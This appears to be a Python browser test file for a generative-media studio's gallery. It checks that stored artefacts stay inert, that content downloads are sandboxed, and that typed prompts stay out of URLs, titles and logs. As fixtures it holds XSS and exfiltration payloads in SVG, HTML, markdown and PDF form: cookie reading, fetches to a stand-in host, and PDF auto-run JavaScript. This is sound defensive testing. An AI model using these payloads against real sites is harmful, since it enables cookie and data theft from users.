"""What was made may try anything: drawings with handlers, pages with scripts, pictures that track.
In the gallery all of it is still, and its own address only hands it out to be saved. And what
somebody typed stands in no address, no title and no log. (Chats, shapes: their rooms' tests.)"""

from __future__ import annotations

import logging
from collections.abc import Callable
from typing import Any

import pytest
from http_client import ask
from small_server import Running

Opened = Callable[..., Any]
EVIL = "http://127.0.0.1:9"  # nobody listens, and the page is watched for asking
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
 width="64" height="64" onload="window.ran=1"><script>window.ran=1;fetch('{EVIL}/a')</script>
<rect width="64" height="64" fill="red"/><use xlink:href="{EVIL}/b.svg#x"/>
<image href="{EVIL}/c.png" width="9" height="9"/><foreignObject width="64" height="64">
<body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="window.ran=1"/>
<iframe src="{EVIL}/d"/></body></foreignObject></svg>"""
PAGE = f"""<!doctype html><title>an artefact</title><script>
try {{ window.ran = 1; parent.ran = 1; parent.document.title = document.cookie; }} catch {{}}
fetch("/v1/models").then((a) => a.text()).then((t) => fetch("{EVIL}/?" + t));
</script><img src="{EVIL}/p.png" onerror="parent.ran=1"><form action="{EVIL}"></form>"""
WORDS = f"""<script>window.ran=1</script> <img src=x onerror="window.ran=1">
![x]({EVIL}/?d=SECRET) ![y][z] [go](javascript:window.ran=1)

[z]: {EVIL}/?e=SECRET
<iframe src="{EVIL}/f"></iframe> <math><mi xlink:href="javascript:window.ran=1">x</mi></math>"""
PDF = f"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("{EVIL}/j"))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI({EVIL}/o)>>>>>>endobj
trailer<</Root 1 0 R>>"""
KINDS = {
    "drawing": ("image/svg+xml", SVG),
    "page": ("text/html", PAGE),
    "text": ("text/plain", WORDS),
}
KINDS["markdown"] = ("text/markdown", WORDS)
KINDS["pdf"] = ("application/pdf", PDF)
LIVE = "iframe, frame, object, embed, main script, dialog script, dialog form[action]"


def put(server: Running, media: str, data: bytes, **record: Any) -> str:
    """As the server keeps what it made."""
    told = {"model": "words", "request": {"prompt": "odd", "seed": 1}, **record}
    kept = server.server.app.state.service.records.assets
    return str(kept.put(data, media, owner="local", record=told).id)


def test_it_is_still_where_it_is_looked_at(studio: Running, opened: Opened) -> None:
    page = opened("#/gallery")
    page.get_by_role("heading", level=1).wait_for()
    for name, (media, text) in KINDS.items():
        id = put(studio, media, text.encode())
        page.goto(f"{studio.url}/#/gallery/{id}")
        page.get_by_role("dialog").locator(".viewer").first.wait_for()
        page.wait_for_timeout(200)
        assert page.evaluate("window.ran") is None and len(page.frames) == 1, name
        assert page.locator(LIVE).count() == 0, name
        assert page.title() == "Gallery · Genloom"
        sources = page.locator("img").evaluate_all("(all) => all.map((one) => one.src)")
        assert all(source.startswith("blob:") for source in sources), sources
        page.keyboard.press("Escape")
        page.get_by_role("dialog").wait_for(state="detached")


@pytest.mark.parametrize("name", ["drawing", "page", "pdf"])
def test_its_own_address_hands_it_out_to_be_saved(
    studio: Running, opened: Opened, name: str
) -> None:
    media, text = KINDS[name]
    path = f"/v1/assets/{put(studio, media, text.encode())}/content"
    told = ask(studio.url, "GET", path).headers
    assert told["content-disposition"].startswith("attachment")
    assert told["content-security-policy"].startswith("sandbox;")
    assert told["x-content-type-options"] == "nosniff"
    page = opened("#/models")
    page.get_by_role("heading", level=1).wait_for()
    with page.expect_download() as saved:
        page.evaluate("(path) => { location.href = path; }", path)
    assert saved.value.url.endswith(path) and page.evaluate("window.ran") is None


def test_what_was_typed_stands_in_no_address_title_or_log(
    studio: Running, opened: Opened, caplog: pytest.LogCaptureFixture
) -> None:
    secret = "hunter2-hunter2"
    caplog.set_level(logging.DEBUG, logger="genloom")
    page = opened("#/generate?model=words")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.locator(".generate-go button:enabled").wait_for()
    page.get_by_label("Prompt").fill(f"my word is {secret}")
    page.keyboard.press("Control+Enter")
    page.locator(".generate-run[data-state=done]").wait_for()
    assert any("/v1/generate" in url for url in asked)
    assert not [url for url in [*asked, page.url] if secret in url]
    assert secret not in page.title()
    assert secret not in caplog.text
    audit = ask(studio.url, "GET", "/v1/admin/audit?limit=100").body.decode()
    assert secret not in audit
